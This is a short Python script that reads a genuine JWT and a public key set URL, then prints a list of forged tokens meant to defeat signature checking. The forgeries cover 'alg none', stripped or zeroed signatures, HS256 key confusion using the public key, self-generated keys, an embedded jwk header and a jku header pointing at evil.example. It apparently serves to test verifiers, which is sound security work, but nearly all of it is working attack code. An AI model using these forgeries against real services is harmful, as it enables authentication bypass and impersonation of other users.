"""Identities made by PyJWT, as an attacker would who knows all that is public. Arguments: a good token, the URL of the keys.

Prints pairs of a name and a token.
"""

import base64
import hashlib
import hmac
import json
import sys
import urllib.request

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.utils import base64url_encode

token, keys = sys.argv[1:]
head = jwt.get_unverified_header(token)
claims = jwt.decode(token, options={"verify_signature": False})
with urllib.request.urlopen(keys) as answer:
    key_set = json.load(answer)["keys"]
public = jwt.PyJWK(next(key for key in key_set if key["kid"] == head["kid"])).key
pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
own = ec.generate_private_key(ec.SECP256R1())
point = own.public_key().public_numbers()
coordinate = lambda number: base64url_encode(number.to_bytes(32, "big")).decode()
own_jwk = {"kty": "EC", "crv": "P-256", "kid": head["kid"], "x": coordinate(point.x), "y": coordinate(point.y)}


def raw(header, claims, signature=b""):
    parts = [json.dumps(header).encode(), json.dumps(claims).encode()]
    return b".".join([base64url_encode(part) for part in parts] + [base64url_encode(signature)]).decode()


def symmetric(header, claims, key):
    message = raw(header, claims).rsplit(".", 1)[0]
    signature = hmac.new(key, message.encode(), hashlib.sha256).digest()
    return f"{message}.{base64url_encode(signature).decode()}"


def made(header):
    return jwt.encode(claims, own, algorithm="ES256", headers={**head, **header})


signature = base64.urlsafe_b64decode(token.split(".")[2] + "==")
other = {**claims, "sub": "00000000-0000-0000-0000-000000000001"}
tokens = [
    ("alg none", raw({**head, "alg": "none"}, claims)),
    ("alg None with the old signature", raw({**head, "alg": "None"}, claims, signature)),
    ("no signature", raw(head, claims)),
    ("a signature of zeros", raw(head, claims, bytes(64))),
    ("another sub under the old signature", raw(head, other, signature)),
    ("HS256 with the public key as PEM", symmetric({**head, "alg": "HS256"}, claims, pem)),
    ("HS256 with the public point", symmetric({**head, "alg": "HS256"}, claims, public.public_numbers().x.to_bytes(32, "big"))),
    ("HS256 with nothing", symmetric({**head, "alg": "HS256"}, claims, b"")),
    ("a key of one's own", made({})),
    ("a key of one's own by another name", made({"kid": "own"})),
    ("a key of one's own in the header", made({"jwk": own_jwk})),
    ("a key of one's own at an address in the header", made({"jku": "https://evil.example/jwks.json"})),
    ("says RS256", raw({**head, "alg": "RS256"}, claims, signature)),
    ("no kid", raw({"alg": "ES256"}, claims, signature)),
    ("no token", "x"),
    ("nothing", ""),
]
print(json.dumps(tokens))
